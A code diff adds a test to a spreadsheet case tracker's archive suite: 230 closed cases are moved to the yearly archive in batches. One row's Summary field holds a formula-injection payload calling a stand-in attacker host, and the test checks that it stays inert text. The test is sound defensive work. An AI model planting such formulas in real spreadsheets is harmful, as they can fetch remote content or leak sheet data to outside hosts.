@@ -21,7 +21,7 @@ import {
   YEAR,
 } from '../support/archive-tracker';
 import { newCase, typeSetting } from '../support/automation-tracker';
-import { call, OPS, OWNER, type Tracker } from '../support/intake-tracker';
+import { call, OPS, OWNER, sealRows, type Tracker } from '../support/intake-tracker';
 import { docsNamed, docText, generateFromMenu, reportTracker, W47_NAME } from '../support/report-tracker';
 
 function archivedEntries(ctx: Tracker): string[] {
@@ -146,6 +146,34 @@ describe('yearly archive', () => {
     expect(caseIds(ctx).sort()).toEqual([open, oldA, recent].sort());
     expect(archivedIds(ctx)).toEqual([oldB]);
     expect(archivedEntries(ctx)).toEqual([oldB]);
+  });
+
+  test('more cases than one move takes: moved in several journaled moves, the archive growing as needed', () => {
+    const ctx = archiveTracker();
+    const size = 230;
+    // Rows the owner pasted in, then sealed by Set up tracker (their records say closed in January).
+    ctx.cases.insertRowsAfter(ctx.cases.getMaxRows(), size);
+    const rows = Array.from({ length: size }, (_, i) => {
+      const row: unknown[] = new Array(ctx.headers.length).fill('');
+      row[ctx.column('Case ID') - 1] = `CB-2026-${String(i + 1).padStart(5, '0')}`;
+      row[ctx.column('Status') - 1] = 'Closed';
+      row[ctx.column('Closed at') - 1] = new Date(Date.UTC(2026, 0, 5 + (i % 20)));
+      row[ctx.column('Summary') - 1] = i === 7 ? '=IMPORTDATA("https://evil.example")' : `Case ${i}`;
+      return row;
+    });
+    ctx.cases.getRange(2, 1, size, ctx.headers.length).setValues(rows);
+    sealRows(ctx);
+    expect(archiveMenu(ctx)).toBe(`${size} closed case(s) moved to the yearly archive.`);
+    expect(caseIds(ctx)).toEqual([]);
+    const archived = archivedIds(ctx);
+    expect(archived).toHaveLength(size);
+    expect(new Set(archived).size).toBe(size);
+    expect(archivedEntries(ctx)).toHaveLength(size);
+    // Text that looks like a formula stays text in the archive.
+    expect(archiveRows(ctx, 'Cases').find((r) => r['Case ID'] === 'CB-2026-00008')?.Summary).toBe(
+      '=IMPORTDATA("https://evil.example")',
+    );
+    expect(newCase(ctx).caseId).toBe(`CB-2026-${String(size + 1).padStart(5, '0')}`);
   });
 
   test("an editor's edit of the live tab cannot make the owner's job archive an open case", () => {
